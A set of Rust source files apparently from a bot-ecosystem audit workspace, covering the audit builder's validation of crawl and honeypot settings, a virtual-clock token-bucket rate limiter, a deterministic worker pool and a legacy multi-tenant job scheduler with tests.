        self
    }

    /// Crawl-session RNG seed, independent of the world seed.
    pub fn crawl_seed(mut self, seed: u64) -> Self {
        self.config.crawl.seed = seed;
        self
    }

    // ---- analysis ------------------------------------------------------

    /// Worker count for every parallel stage (crawl shards, the analysis
    /// pool, honeypot campaigns): 1 = serial, N = a pool of N, 0 = one per
    /// core. Output is byte-identical regardless.
    pub fn workers(mut self, workers: usize) -> Self {
        self.config.workers = workers;
        self.config.crawl.workers = workers;
        self.config.honeypot.workers = workers;
        self
    }

    /// Keyword ontology for the traceability stage (defaults to the
    /// paper's standard ontology).
    pub fn ontology(mut self, ontology: KeywordOntology) -> Self {
        self.config.ontology = ontology;
        self
    }

    // ---- honeypot ------------------------------------------------------

    /// How many most-voted bots the honeypot tests (paper: 500).
    pub fn honeypot_sample(mut self, bots: usize) -> Self {
        self.config.honeypot_sample = bots;
        self
    }

    /// Personas per honeypot guild (paper: 5).
    pub fn personas_per_guild(mut self, personas: usize) -> Self {
        self.config.honeypot.personas_per_guild = personas;
        self
    }

    /// Decoy conversation messages per guild (paper: 25).
    pub fn feed_messages(mut self, messages: usize) -> Self {
        self.config.honeypot.feed_messages = messages;
        self
    }

    /// Campaign RNG seed, independent of the world seed.
    pub fn honeypot_seed(mut self, seed: u64) -> Self {
        self.config.honeypot.seed = seed;
        self
    }

    /// Provision personas with automated verification (the paper's stated
    /// future work; defaults off to match the paper's manual step).
    pub fn auto_verify_personas(mut self, auto: bool) -> Self {
        self.config.honeypot.auto_verify_personas = auto;
        self
    }

    /// Plant a webhook-credential canary per guild (extension; defaults
    /// on).
    pub fn webhook_canaries(mut self, plant: bool) -> Self {
        self.config.honeypot.plant_webhook_canaries = plant;
        self
    }

    // ---- persistence & observability -----------------------------------

    /// Journal through this crash-safe store; [`Audit::run_resumable`]
    /// uses a throwaway in-memory store when unset.
    pub fn store(mut self, store: StoreConfig) -> Self {
        self.store = Some(store);
        self
    }

    /// Report through this observability handle (attach a
    /// [`obs::JsonRecorder`] to capture the deterministic trace). Defaults
    /// to [`Obs::disabled`]: metrics stay live, spans cost a null check.
    pub fn obs(mut self, obs: Obs) -> Self {
        self.obs = Some(obs);
        self
    }

    /// Validate the combination and produce the runnable [`Audit`].
    ///
    /// # Errors
    ///
    /// [`AuditError::Config`] when the knobs are inconsistent: an empty
    /// world, a zero page size, a crawl capped at zero pages, a honeypot
    /// sample larger than the world, a guild with no personas, an unknown
    /// platform tag, a crawl pointed at the wrong platform's directory, or
    /// a Discord-only mitigation requested on Telegram.
    pub fn build(self) -> Result<Audit, AuditError> {
        if let Some(name) = &self.bad_platform {
            return Err(AuditError::config(format!(
                "unknown platform {name:?}; expected one of: discord, telegram"
            )));
        }
        if self.config.crawl.platform != self.eco.platform {
            return Err(AuditError::config(format!(
                "crawl targets {} but the world mounts on {}",
                self.config.crawl.platform, self.eco.platform
            )));
        }
        for kind in PlatformKind::ALL {
            if kind != self.eco.platform && self.config.crawl.list_host == canonical_list_host(kind)
            {
                return Err(AuditError::config(format!(
                    "list_host {:?} is the {} directory, but the world mounts on {}",
                    self.config.crawl.list_host, kind, self.eco.platform
                )));
            }
        }
        if self.eco.least_privilege_delivery && self.eco.platform != PlatformKind::Discord {
            return Err(AuditError::config(
                "least_privilege delivery is a Discord mitigation; \
                 Telegram's privacy mode already plays that role",
            ));
        }
        if self.eco.num_bots == 0 {
            return Err(AuditError::config("scale must be at least 1 bot"));
        }
        if self.eco.page_size == 0 {
            return Err(AuditError::config("page_size must be at least 1"));
        }
        if self.config.crawl.max_pages == Some(0) {
            return Err(AuditError::config(
                "max_pages(0) would crawl nothing; omit it to crawl all pages",
            ));
        }
        if self.config.honeypot_sample > self.eco.num_bots {
            return Err(AuditError::config(format!(
                "honeypot_sample ({}) exceeds the world population ({})",
                self.config.honeypot_sample, self.eco.num_bots
            )));
        }
        if self.config.honeypot.personas_per_guild == 0 {
            return Err(AuditError::config("personas_per_guild must be at least 1"));
        }
        Ok(Audit {
            config: self.config,
            eco: self.eco,
            store: self.store,
            obs: self.obs.unwrap_or_else(Obs::disabled),
            drift: self.drift,
            epoch: self.epoch,
        })
    }

    /// Validate and wrap the audit as a fleet-service job, ready for
    /// [`FleetService::submit`](crate::FleetService::submit).
    ///
    /// # Errors
    ///
    /// The same [`AuditError::Config`] cases as [`Self::build`].
    pub fn into_job(self) -> Result<AuditJob, AuditError> {
        Ok(AuditJob::new(self.build()?))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::ErrorKind;
    use std::sync::Arc;
    use store::MemBackend;

    fn small() -> AuditBuilder {
        Audit::builder()
            .scale(40)
            .seed(77)
            .honeypot_sample(5)
            .site_defenses(false)
    }

    #[test]
    fn builder_rejects_inconsistent_knobs() {
        let empty = Audit::builder().scale(0).build().unwrap_err();
        assert_eq!(empty.kind(), ErrorKind::Config);

        let oversampled = Audit::builder()
            .scale(10)
            .honeypot_sample(11)
            .build()
            .unwrap_err();
        assert_eq!(oversampled.kind(), ErrorKind::Config);

        assert_eq!(
            small().max_pages(0).build().unwrap_err().kind(),
            ErrorKind::Config
        );
        assert_eq!(
            small().page_size(0).build().unwrap_err().kind(),
            ErrorKind::Config
        );
        assert_eq!(
            small().personas_per_guild(0).build().unwrap_err().kind(),
            ErrorKind::Config
        );
    }

    #[test]
    fn facade_run_matches_hand_wired_pipeline() {
        let facade = small().build().unwrap().run().unwrap();

        let eco = build_ecosystem(&EcosystemConfig::test_scale(40, 77));
        let mut config = AuditConfig {
            honeypot_sample: 5,
            ..AuditConfig::default()
        };
        config.crawl.seed = 77;
        config.honeypot.seed = 77;
        let by_hand = AuditPipeline::new(config).run_full(&eco).canonical();
        assert_eq!(facade, by_hand);
    }

    #[test]
    fn facade_resumable_crashes_and_resumes() {
        let backend = Arc::new(MemBackend::new());
        let crash = small()
            .store(StoreConfig {
                backend: backend.clone(),
                resume: false,
                kill_after_frames: Some(5),
            })
            .build()
            .unwrap();
        let err = crash.run_resumable().unwrap_err();
        assert_eq!(err.kind(), ErrorKind::Interrupted);

        let resume = small()
            .store(StoreConfig {
                backend,
                resume: true,
                kill_after_frames: None,
            })
            .build()
            .unwrap();
        let resumed = resume.run_resumable().unwrap();
        let uninterrupted = small().build().unwrap().run_resumable().unwrap();
        assert_eq!(resumed, uninterrupted);
        assert!(resume.obs().counter_value("store.journal.replayed") >= 5);
    }

    #[test]
    fn workers_knob_fans_out_to_every_stage() {
        let audit = small().workers(4).build().unwrap();
        assert_eq!(audit.config().workers, 4);
        assert_eq!(audit.config().crawl.workers, 4);
        assert_eq!(audit.config().honeypot.workers, 4);
    }
}
