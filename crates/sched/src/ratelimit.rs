//! Per-tenant token-bucket rate limiting on the virtual clock.

/// Rate-limit policy applied independently to every tenant.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct TenantRate {
    /// Bucket capacity: how many submissions a tenant may burst before the
    /// refill rate takes over.
    pub burst: u32,
    /// Steady-state refill rate in submissions per (virtual) second.
    pub per_sec: f64,
}

impl TenantRate {
    /// A policy allowing `burst` immediate submissions refilled at
    /// `per_sec` per virtual second.
    pub fn new(burst: u32, per_sec: f64) -> Self {
        TenantRate { burst, per_sec }
    }
}

/// Classic token bucket, advanced lazily from virtual-clock timestamps.
///
/// All arithmetic happens in `f64` tokens over `u64` milliseconds read
/// from the shared clock, so two schedulers replaying the same submission
/// sequence make identical accept/reject decisions regardless of wall
/// time or thread interleaving.
#[derive(Debug, Clone)]
pub(crate) struct TokenBucket {
    capacity: f64,
    tokens: f64,
    per_ms: f64,
    last_ms: u64,
}

impl TokenBucket {
    pub(crate) fn new(rate: TenantRate, now_ms: u64) -> Self {
        let capacity = f64::from(rate.burst).max(1.0);
        TokenBucket {
            capacity,
            tokens: capacity,
            per_ms: (rate.per_sec / 1_000.0).max(0.0),
            last_ms: now_ms,
        }
    }

    /// Take one token at virtual time `now_ms`. On refusal, returns how
    /// many milliseconds until a full token will have accrued.
    pub(crate) fn try_acquire(&mut self, now_ms: u64) -> Result<(), u64> {
        let elapsed = now_ms.saturating_sub(self.last_ms);
        self.last_ms = now_ms;
        self.tokens = (self.tokens + elapsed as f64 * self.per_ms).min(self.capacity);
        if self.tokens >= 1.0 {
            self.tokens -= 1.0;
            Ok(())
        } else if self.per_ms > 0.0 {
            let deficit = 1.0 - self.tokens;
            Err((deficit / self.per_ms).ceil() as u64)
        } else {
            Err(u64::MAX)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn burst_then_refusal_then_refill() {
        let mut bucket = TokenBucket::new(TenantRate::new(2, 1.0), 0);
        assert!(bucket.try_acquire(0).is_ok());
        assert!(bucket.try_acquire(0).is_ok());
        let wait = bucket.try_acquire(0).unwrap_err();
        assert_eq!(wait, 1_000, "one token accrues per virtual second");
        // After the advertised wait the bucket admits again.
        assert!(bucket.try_acquire(wait).is_ok());
    }

    #[test]
    fn zero_rate_never_refills() {
        let mut bucket = TokenBucket::new(TenantRate::new(1, 0.0), 0);
        assert!(bucket.try_acquire(0).is_ok());
        assert_eq!(bucket.try_acquire(1_000_000).unwrap_err(), u64::MAX);
    }

    #[test]
    fn refill_caps_at_capacity() {
        let mut bucket = TokenBucket::new(TenantRate::new(3, 10.0), 0);
        for _ in 0..3 {
            assert!(bucket.try_acquire(0).is_ok());
        }
        // A very long idle period still only restores `burst` tokens.
        for _ in 0..3 {
            assert!(bucket.try_acquire(1_000_000).is_ok());
        }
        assert!(bucket.try_acquire(1_000_000).is_err());
    }
}
