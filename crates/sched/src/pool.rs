//! Claim-counter worker pool over per-tenant chains.
//!
//! The same pattern the core pipeline uses for its work-stealing stages,
//! restated on `std::thread::scope` so this crate stays dependency-free:
//! workers claim *chain* indices from a shared atomic counter, run the
//! claimed chain to whatever end its runner decides (completion, or a
//! cooperative park partway through), and deposit the result in a
//! pre-sized slot. The output is therefore a pure function of the chain
//! list — worker count only changes wall-clock time.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;

/// Run one function per chain across up to `workers` threads. Each chain
/// is claimed by exactly one worker and `run` decides how far into the
/// chain to go — the daemon uses this to stop a chain at a parked job and
/// hand the remainder back. Returns one result per chain, in chain order.
pub(crate) fn run_chain_fns<C, R, F>(chains: Vec<C>, workers: usize, run: F) -> Vec<R>
where
    C: Send,
    R: Send,
    F: Fn(C) -> R + Sync,
{
    let workers = workers.clamp(1, chains.len().max(1));
    let next = AtomicUsize::new(0);
    let slots: Vec<Mutex<Option<R>>> = chains.iter().map(|_| Mutex::new(None)).collect();
    let chains: Vec<Mutex<Option<C>>> = chains.into_iter().map(|c| Mutex::new(Some(c))).collect();

    std::thread::scope(|scope| {
        for _ in 0..workers {
            scope.spawn(|| loop {
                let idx = next.fetch_add(1, Ordering::Relaxed);
                if idx >= chains.len() {
                    break;
                }
                let chain = chains[idx]
                    .lock()
                    .expect("chain slot poisoned")
                    .take()
                    .expect("chain claimed twice");
                *slots[idx].lock().expect("result slot poisoned") = Some(run(chain));
            });
        }
    });

    slots
        .into_iter()
        .map(|slot| {
            slot.into_inner()
                .expect("result slot poisoned")
                .expect("worker exited without storing its chain")
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Item-by-item runner restated over [`run_chain_fns`] — the shape
    /// the daemon uses when no job parks.
    fn run_chains<I: Send, T: Send>(
        chains: Vec<Vec<I>>,
        workers: usize,
        exec: impl Fn(I) -> T + Sync,
    ) -> Vec<Vec<T>> {
        run_chain_fns(chains, workers, |chain| {
            chain.into_iter().map(&exec).collect()
        })
    }

    #[test]
    fn outputs_line_up_with_chains_at_any_worker_count() {
        let chains: Vec<Vec<u64>> = (0..7).map(|c| (0..=c).collect()).collect();
        let expected: Vec<Vec<u64>> = chains
            .iter()
            .map(|c| c.iter().map(|x| x * 10).collect())
            .collect();
        for workers in [1, 2, 4, 16] {
            let got = run_chains(chains.clone(), workers, |x| x * 10);
            assert_eq!(got, expected, "workers={workers}");
        }
    }

    #[test]
    fn empty_chain_list_is_fine() {
        let got = run_chains(Vec::<Vec<u8>>::new(), 4, |x| x);
        assert!(got.is_empty());
    }

    #[test]
    fn chain_runner_may_stop_early_and_return_leftovers() {
        // A runner that processes items until it hits a multiple of 5,
        // returning processed outputs plus the untouched remainder —
        // the same shape the daemon uses for cooperative parking.
        let chains: Vec<Vec<u64>> = vec![vec![1, 2, 5, 7], vec![3, 4], vec![5]];
        for workers in [1, 3] {
            let got = run_chain_fns(chains.clone(), workers, |chain| {
                let mut done = Vec::new();
                let mut rest = Vec::new();
                let mut iter = chain.into_iter();
                for item in iter.by_ref() {
                    if item % 5 == 0 {
                        rest.push(item);
                        break;
                    }
                    done.push(item * 2);
                }
                rest.extend(iter);
                (done, rest)
            });
            assert_eq!(
                got,
                vec![
                    (vec![2, 4], vec![5, 7]),
                    (vec![6, 8], vec![]),
                    (vec![], vec![5]),
                ],
                "workers={workers}"
            );
        }
    }
}
