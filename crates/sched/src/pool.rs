//! Claim-counter worker pool over per-tenant chains.
//!
//! The same pattern the core pipeline uses for its work-stealing stages,
//! restated on `std::thread::scope` so this crate stays dependency-free:
//! workers claim *chain* indices from a shared atomic counter, run every
//! item of the claimed chain in order, and park results in pre-sized
//! slots. The output is therefore a pure function of the chain list —
//! worker count only changes wall-clock time.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;

/// Run `chains` across up to `workers` threads. Items within a chain are
/// processed strictly in order by a single worker; distinct chains run
/// concurrently. Returns one output vector per chain, in chain order.
pub(crate) fn run_chains<I, T, F>(chains: Vec<Vec<I>>, workers: usize, exec: F) -> Vec<Vec<T>>
where
    I: Send,
    T: Send,
    F: Fn(I) -> T + Sync,
{
    let workers = workers.clamp(1, chains.len().max(1));
    let next = AtomicUsize::new(0);
    let slots: Vec<Mutex<Option<Vec<T>>>> = chains.iter().map(|_| Mutex::new(None)).collect();
    let chains: Vec<Mutex<Option<Vec<I>>>> =
        chains.into_iter().map(|c| Mutex::new(Some(c))).collect();

    std::thread::scope(|scope| {
        for _ in 0..workers {
            scope.spawn(|| loop {
                let idx = next.fetch_add(1, Ordering::Relaxed);
                if idx >= chains.len() {
                    break;
                }
                let chain = chains[idx]
                    .lock()
                    .expect("chain slot poisoned")
                    .take()
                    .expect("chain claimed twice");
                let outputs: Vec<T> = chain.into_iter().map(&exec).collect();
                *slots[idx].lock().expect("result slot poisoned") = Some(outputs);
            });
        }
    });

    slots
        .into_iter()
        .map(|slot| {
            slot.into_inner()
                .expect("result slot poisoned")
                .expect("worker exited without storing its chain")
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn outputs_line_up_with_chains_at_any_worker_count() {
        let chains: Vec<Vec<u64>> = (0..7).map(|c| (0..=c).collect()).collect();
        let expected: Vec<Vec<u64>> = chains
            .iter()
            .map(|c| c.iter().map(|x| x * 10).collect())
            .collect();
        for workers in [1, 2, 4, 16] {
            let got = run_chains(chains.clone(), workers, |x| x * 10);
            assert_eq!(got, expected, "workers={workers}");
        }
    }

    #[test]
    fn empty_chain_list_is_fine() {
        let got = run_chains(Vec::<Vec<u8>>::new(), 4, |x| x);
        assert!(got.is_empty());
    }
}
