//! The legacy batch-shaped scheduler facade and its shared job types.
//!
//! [`Scheduler`] predates the always-on [`Daemon`](crate::Daemon) and is
//! kept as a thin compatibility wrapper: `submit` feeds the daemon's
//! queue and the deprecated [`Scheduler::drain`] runs one legacy-mode
//! pass (everything queued, no fairness quantum, no expiry, no slicing).
//! New code drives a [`Daemon`](crate::Daemon) — or, at the fleet layer,
//! `FleetDaemon::run_until` — instead.

use crate::daemon::{Daemon, DaemonConfig, StepResult};
use crate::job::{JobId, JobSpec, Lane};
use crate::ratelimit::TenantRate;
use obs::{Clock, Obs};
use std::error::Error;
use std::fmt;
use std::sync::Arc;

/// Knobs for one [`Scheduler`].
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SchedulerConfig {
    /// Maximum number of queued (not yet drained) jobs. Submissions past
    /// this bound are rejected with [`Rejection::QueueFull`].
    pub queue_capacity: usize,
    /// Worker threads used by [`Scheduler::drain`]. Any value produces
    /// byte-identical outputs; this knob only trades wall-clock time.
    pub workers: usize,
    /// Optional per-tenant submission rate limit.
    pub tenant_rate: Option<TenantRate>,
}

impl Default for SchedulerConfig {
    fn default() -> Self {
        SchedulerConfig {
            queue_capacity: 64,
            workers: 1,
            tenant_rate: None,
        }
    }
}

/// Why a submission was refused or a queued job dropped. Refusals are
/// part of the deterministic surface: the same submission sequence at the
/// same virtual times is rejected identically on every run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Rejection {
    /// The queue already holds `capacity` jobs.
    QueueFull {
        /// The configured [`SchedulerConfig::queue_capacity`].
        capacity: usize,
    },
    /// The tenant exhausted its token bucket.
    RateLimited {
        /// Tenant that was throttled.
        tenant: String,
        /// Virtual milliseconds until a token will be available
        /// (`u64::MAX` when the refill rate is zero).
        retry_after_ms: u64,
    },
    /// The job sat queued past its deadline and the daemon dropped it
    /// un-run (counted under `sched.expired`). Only the always-on loop
    /// expires jobs; the legacy [`Scheduler::drain`] never does.
    DeadlineExpired {
        /// The deadline that passed, virtual milliseconds.
        deadline_ms: u64,
        /// How far past the deadline the clock was when the drop was
        /// observed.
        late_by_ms: u64,
    },
}

impl fmt::Display for Rejection {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Rejection::QueueFull { capacity } => {
                write!(f, "queue full (capacity {capacity})")
            }
            Rejection::RateLimited {
                tenant,
                retry_after_ms,
            } => write!(
                f,
                "tenant {tenant} rate limited (retry in {retry_after_ms} ms)"
            ),
            Rejection::DeadlineExpired {
                deadline_ms,
                late_by_ms,
            } => write!(
                f,
                "deadline {deadline_ms} ms expired ({late_by_ms} ms late)"
            ),
        }
    }
}

impl Error for Rejection {}

/// One finished job, in dispatch order.
#[derive(Debug, Clone, PartialEq)]
pub struct CompletedJob<T> {
    /// Submission id.
    pub id: JobId,
    /// Owning tenant.
    pub tenant: String,
    /// Lane the job dispatched from.
    pub lane: Lane,
    /// Virtual-clock submission time, milliseconds.
    pub submitted_ms: u64,
    /// Virtual milliseconds spent queued before the first dispatch
    /// (preemption slices never grow it).
    pub wait_ms: u64,
    /// Whatever the executor returned.
    pub output: T,
}

/// Deterministic multi-tenant job scheduler — the batch-shaped facade
/// over [`Daemon`](crate::Daemon).
///
/// Submissions are admission-controlled (bounded queue, optional
/// per-tenant rate limit); the deprecated [`Scheduler::drain`] dispatches
/// everything queued across a worker pool. Jobs sort by `(lane, deadline,
/// id)`, except that same-tenant jobs always execute sequentially in
/// submission order — [`JobSpec::tenant`]'s contract — so every output —
/// results, metrics, spans — is independent of worker count.
pub struct Scheduler<P> {
    config: SchedulerConfig,
    daemon: Daemon<Option<P>>,
}

impl<P: Send> Scheduler<P> {
    /// A scheduler reading time from `clock` and reporting through `obs`.
    pub fn new(config: SchedulerConfig, clock: Arc<dyn Clock>, obs: Obs) -> Self {
        let daemon_config = DaemonConfig {
            queue_capacity: config.queue_capacity,
            workers: config.workers,
            tenant_rate: config.tenant_rate,
            // Legacy semantics: no fairness bounding, no batch slicing.
            quantum: 0,
            batch_slice_frames: None,
        };
        Scheduler {
            config,
            daemon: Daemon::new(daemon_config, clock, obs),
        }
    }

    /// The configuration this scheduler was built with.
    pub fn config(&self) -> &SchedulerConfig {
        &self.config
    }

    /// The virtual clock driving admission timestamps.
    pub fn clock(&self) -> &Arc<dyn Clock> {
        self.daemon.clock()
    }

    /// Jobs currently queued.
    pub fn len(&self) -> usize {
        self.daemon.len()
    }

    /// Whether the queue is empty.
    pub fn is_empty(&self) -> bool {
        self.daemon.is_empty()
    }

    /// Submit a job. Returns its [`JobId`], or a [`Rejection`] when the
    /// queue is at capacity or the tenant is over its rate.
    pub fn submit(&self, spec: JobSpec, payload: P) -> Result<JobId, Rejection> {
        self.daemon.submit(spec, Some(payload))
    }

    /// Dispatch every queued job and return the results in dispatch order.
    ///
    /// Dispatch order is `(lane, deadline, submission id)`, with one
    /// carve-out: jobs of one tenant always execute in submission order
    /// ([`JobSpec::tenant`]'s contract — they share per-tenant state such
    /// as a warm artifact pack), filling the dispatch slots their
    /// lane/deadline sort earned as a group. Each tenant's chain runs
    /// sequentially on a single worker; distinct tenants run concurrently
    /// on up to [`SchedulerConfig::workers`] threads. The virtual clock
    /// is read **once**, at drain start, so recorded wait times cannot
    /// depend on execution interleaving.
    #[deprecated(
        since = "0.2.0",
        note = "batch drain is superseded by the always-on loop: step a \
                `sched::Daemon` with `tick`, or drive the fleet layer \
                through `FleetDaemon::run_until`"
    )]
    pub fn drain<T, F>(&self, exec: F) -> Vec<CompletedJob<T>>
    where
        T: Send,
        F: Fn(JobId, &JobSpec, P) -> T + Sync,
    {
        self.daemon
            .drain_all(|id, spec, slot: &mut Option<P>, _ctx| {
                StepResult::Done(exec(
                    id,
                    spec,
                    slot.take().expect("drain dispatched a job twice"),
                ))
            })
    }
}

#[cfg(test)]
#[allow(deprecated)]
mod tests {
    use super::*;
    use obs::ManualClock;
    use std::sync::Mutex;

    fn sched(config: SchedulerConfig) -> (Scheduler<u64>, Arc<ManualClock>) {
        let clock = Arc::new(ManualClock::new());
        let s = Scheduler::new(config, clock.clone(), Obs::disabled());
        (s, clock)
    }

    #[test]
    fn dispatch_order_is_lane_deadline_id() {
        let (s, _) = sched(SchedulerConfig::default());
        s.submit(JobSpec::new("a").lane(Lane::Batch), 0).unwrap();
        s.submit(JobSpec::new("b").lane(Lane::Interactive).deadline_ms(9), 1)
            .unwrap();
        s.submit(JobSpec::new("c").lane(Lane::Interactive).deadline_ms(3), 2)
            .unwrap();
        s.submit(JobSpec::new("d"), 3).unwrap();
        let done = s.drain(|_, _, p| p);
        let order: Vec<u64> = done.iter().map(|j| j.output).collect();
        assert_eq!(order, vec![2, 1, 3, 0]);
    }

    #[test]
    fn queue_full_rejects_with_capacity() {
        let (s, _) = sched(SchedulerConfig {
            queue_capacity: 2,
            ..SchedulerConfig::default()
        });
        s.submit(JobSpec::new("a"), 0).unwrap();
        s.submit(JobSpec::new("a"), 1).unwrap();
        let err = s.submit(JobSpec::new("b"), 2).unwrap_err();
        assert_eq!(err, Rejection::QueueFull { capacity: 2 });
        // Draining frees capacity again.
        s.drain(|_, _, p| p);
        assert!(s.submit(JobSpec::new("b"), 2).is_ok());
    }

    #[test]
    fn rate_limit_throttles_per_tenant() {
        let (s, clock) = sched(SchedulerConfig {
            tenant_rate: Some(TenantRate::new(1, 1.0)),
            ..SchedulerConfig::default()
        });
        s.submit(JobSpec::new("a"), 0).unwrap();
        let err = s.submit(JobSpec::new("a"), 1).unwrap_err();
        assert_eq!(
            err,
            Rejection::RateLimited {
                tenant: "a".into(),
                retry_after_ms: 1_000,
            }
        );
        // An unrelated tenant has its own bucket.
        s.submit(JobSpec::new("b"), 2).unwrap();
        // After the advertised wait, the tenant is admitted again.
        clock.advance(1_000);
        assert!(s.submit(JobSpec::new("a"), 3).is_ok());
    }

    #[test]
    fn same_tenant_runs_in_order_across_worker_counts() {
        for workers in [1, 2, 8] {
            let (s, _) = sched(SchedulerConfig {
                workers,
                queue_capacity: 256,
                ..SchedulerConfig::default()
            });
            let log: Mutex<Vec<(String, u64)>> = Mutex::new(Vec::new());
            for i in 0..12u64 {
                let tenant = ["x", "y", "z"][(i % 3) as usize];
                s.submit(JobSpec::new(tenant), i).unwrap();
            }
            let done = s.drain(|_, spec, p| {
                log.lock().unwrap().push((spec.tenant.clone(), p));
                p
            });
            assert_eq!(done.len(), 12);
            // Dispatch order in the returned vec is worker-independent.
            let outs: Vec<u64> = done.iter().map(|j| j.output).collect();
            assert_eq!(outs, (0..12).collect::<Vec<_>>(), "workers={workers}");
            // And each tenant's own jobs executed in submission order.
            let log = log.into_inner().unwrap();
            for tenant in ["x", "y", "z"] {
                let seq: Vec<u64> = log
                    .iter()
                    .filter(|(t, _)| t == tenant)
                    .map(|(_, p)| *p)
                    .collect();
                let mut sorted = seq.clone();
                sorted.sort_unstable();
                assert_eq!(seq, sorted, "tenant {tenant} ran out of order");
            }
        }
    }

    #[test]
    fn lane_inversion_never_reorders_one_tenants_jobs() {
        for workers in [1, 4] {
            let (s, _) = sched(SchedulerConfig {
                workers,
                ..SchedulerConfig::default()
            });
            // Tenant t submits Standard (id 0) then Interactive (id 1):
            // the interactive job earns the earlier dispatch slot, but
            // t's jobs must still execute 0 before 1.
            s.submit(JobSpec::new("t"), 0).unwrap();
            s.submit(JobSpec::new("t").lane(Lane::Interactive), 1)
                .unwrap();
            s.submit(JobSpec::new("u").lane(Lane::Batch), 2).unwrap();
            let log: Mutex<Vec<(String, u64)>> = Mutex::new(Vec::new());
            let done = s.drain(|_, spec, p| {
                log.lock().unwrap().push((spec.tenant.clone(), p));
                p
            });
            // The chain fills its earned slots by submission id, so the
            // returned order is also 0, 1, 2.
            let outs: Vec<u64> = done.iter().map(|j| j.output).collect();
            assert_eq!(outs, vec![0, 1, 2], "workers={workers}");
            let t_seq: Vec<u64> = log
                .into_inner()
                .unwrap()
                .into_iter()
                .filter(|(tenant, _)| tenant == "t")
                .map(|(_, p)| p)
                .collect();
            assert_eq!(t_seq, vec![0, 1], "workers={workers}");
        }
    }

    #[test]
    fn wait_times_come_from_the_virtual_clock() {
        let (s, clock) = sched(SchedulerConfig::default());
        s.submit(JobSpec::new("a"), 0).unwrap();
        clock.advance(250);
        s.submit(JobSpec::new("a"), 1).unwrap();
        clock.advance(50);
        let done = s.drain(|_, _, p| p);
        assert_eq!(done[0].wait_ms, 300);
        assert_eq!(done[1].wait_ms, 50);
        assert_eq!(done[0].submitted_ms, 0);
        assert_eq!(done[1].submitted_ms, 250);
    }

    #[test]
    fn drain_never_expires_overdue_jobs() {
        // Legacy semantics: a deadline behind the clock still dispatches.
        let (s, clock) = sched(SchedulerConfig::default());
        s.submit(JobSpec::new("a").deadline_ms(10), 0).unwrap();
        clock.advance(500);
        let done = s.drain(|_, _, p| p);
        assert_eq!(done.len(), 1);
        assert_eq!(done[0].wait_ms, 500);
    }

    #[test]
    fn metrics_account_for_every_submission() {
        let obs = Obs::disabled();
        let clock = Arc::new(ManualClock::new());
        let s = Scheduler::new(
            SchedulerConfig {
                queue_capacity: 3,
                ..SchedulerConfig::default()
            },
            clock,
            obs.clone(),
        );
        for i in 0..5u64 {
            let _ = s.submit(JobSpec::new("a"), i);
        }
        assert_eq!(obs.counter_value("sched.submitted"), 3);
        assert_eq!(obs.counter_value("sched.rejected.queue_full"), 2);
        s.drain(|_, _, p| p);
        assert_eq!(obs.counter_value("sched.dispatched"), 3);
        assert_eq!(obs.counter_value("sched.completed"), 3);
        assert_eq!(obs.gauge_value("sched.queue_depth"), 0);
    }
}
