//! # sched — the deterministic multi-tenant job scheduler
//!
//! The measurement pipeline started life as a batch program: one world, one
//! audit, one report. A production audit *service* faces a different shape
//! of problem — many tenants submitting audit requests forever, each with
//! its own urgency and weight, against a bounded worker pool. This crate
//! supplies that layer while preserving the workspace's core contract:
//! **the whole service is deterministic and byte-identical at any worker
//! count**.
//!
//! * [`Daemon`] — the always-on loop: the driver advances the virtual
//!   clock and calls [`Daemon::tick`]; every tick expires overdue queued
//!   jobs with a typed reason ([`JobEvent::Expired`], `sched.expired`),
//!   selects work by **deficit round-robin** so no tenant can starve
//!   another (`sched.drr.*`, [`Daemon::fairness_gap`]), and supports
//!   **cooperative preemption** — an executor may park a `Batch` job at a
//!   journal-frame boundary ([`StepResult::Parked`], `sched.parked`) and
//!   resume it on a later tick;
//! * [`Scheduler`] — the legacy batch facade over the daemon, kept so
//!   existing callers compile (its `drain` is deprecated in favor of the
//!   daemon loop);
//! * [`JobSpec::builder`] — the validated construction path for jobs,
//!   with the dispatch-order contract documented on [`JobSpec`] itself;
//! * [`Lane`] — three priority lanes (interactive / standard / batch) with
//!   optional per-job deadlines for intra-lane ordering;
//! * [`TenantRate`] — per-tenant token-bucket rate limiting driven by the
//!   virtual [`Clock`] (the same clock trait the rest of the workspace
//!   uses — re-exported here and from `netsim::clock`, never a third
//!   abstraction);
//! * a claim-counter worker pool that multiplexes in-flight chains across
//!   OS threads while keeping every observable output scheduling-free.
//!
//! ## Determinism model
//!
//! Dispatch order is a pure function of the submitted jobs and tick
//! times: each tick's selected jobs sort by `(lane, deadline, submission
//! sequence)` and jobs of one tenant form a *chain* that executes
//! sequentially (tenants share mutable state — a warm artifact store — so
//! intra-tenant order must be program order, even across preemption).
//! Chains are distributed over workers with a claim counter, results land
//! in per-chain slots, and each tick's events are re-sorted into dispatch
//! order. Timestamps come from the virtual clock, which only the driver
//! advances — so wait times, expiry and rate-limit decisions, and the
//! `sched.*` metrics and span tree are identical whether the pool has 1
//! worker or 8.
//!
//! Like `obs` and `store`, this crate is dependency-free (its only
//! workspace dependency *is* `obs`): `std::sync` primitives and scoped
//! threads are all it needs.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

mod daemon;
mod job;
mod pool;
mod queue;
mod ratelimit;

pub use daemon::{AbandonedJob, Daemon, DaemonConfig, ExecCtx, ExpiredJob, JobEvent, StepResult};
pub use job::{JobId, JobSpec, JobSpecBuilder, Lane, SpecError};
pub use obs::Clock;
pub use queue::{CompletedJob, Rejection, Scheduler, SchedulerConfig};
pub use ratelimit::TenantRate;
