//! # sched — the deterministic multi-tenant job scheduler
//!
//! The measurement pipeline started life as a batch program: one world, one
//! audit, one report. A production audit *service* faces a different shape
//! of problem — many tenants submitting audit requests concurrently, each
//! with its own urgency, against a bounded worker pool. This crate supplies
//! that layer while preserving the workspace's core contract: **the whole
//! service is deterministic and byte-identical at any worker count**.
//!
//! * [`Scheduler`] — a bounded priority queue of tenant jobs with
